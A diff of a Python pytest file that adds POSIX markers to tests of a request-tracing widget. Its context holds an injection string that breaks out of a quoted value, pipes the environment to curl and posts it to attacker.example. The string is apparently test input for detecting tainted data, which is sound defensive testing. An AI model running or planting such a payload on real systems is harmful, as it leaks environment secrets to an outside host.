@@ -19,6 +19,7 @@ APPS = Path(__file__).resolve().parents[2] / "code-examples" / "apps"
 ATTACK = "x'; env | curl -sd @- https://attacker.example; '"
 
 
+@pytest.mark.posix
 def test_a_title_goes_from_handler_to_handler() -> None:
     widget = SendRequest(load_app(APPS / "upload-chain"), "title", ["It's a long way"])
     assert widget.view["at"] == "submit"
@@ -44,6 +45,7 @@ def test_a_title_goes_from_handler_to_handler() -> None:
     assert "‹curl›" in widget.as_html()
 
 
+@pytest.mark.posix
 def test_every_form_in_which_data_travels_is_marked() -> None:
     widget = SendRequest(load_app(APPS / "upload-chain"))
     widget.act("send", text='it\'s "a" b')
@@ -51,6 +53,7 @@ def test_every_form_in_which_data_travels_is_marked() -> None:
         assert any(sent for part in hop["received"] for _, sent in part), hop["title"]
 
 
+@pytest.mark.posix
 def test_a_change_of_the_handler_is_sent_again() -> None:
     app = load_app(APPS / "upload-chain")
     widget = SendRequest(app)
@@ -78,6 +81,7 @@ def test_a_field_that_no_request_has_is_refused() -> None:
         SendRequest(load_app(APPS / "night-bus"), "songs")
 
 
+@pytest.mark.posix
 @pytest.mark.parametrize(("application", "field", "text"), RECORDED)
 def test_what_was_recorded_is_what_happens(application: str, field: str, text: str) -> None:
     widget = SendRequest(load_app(APPS / application), field)
@@ -106,6 +110,7 @@ def test_without_moto_the_recorded_requests_are_shown(monkeypatch: pytest.Monkey
     assert "Only the samples can be sent" in widget.status
 
 
+@pytest.mark.posix
 def test_a_module_that_is_missing_is_told() -> None:
     widget = SendRequest(load_app(APPS / "radio-playlist"), "body")
     widget.act("send", text="songs: []")
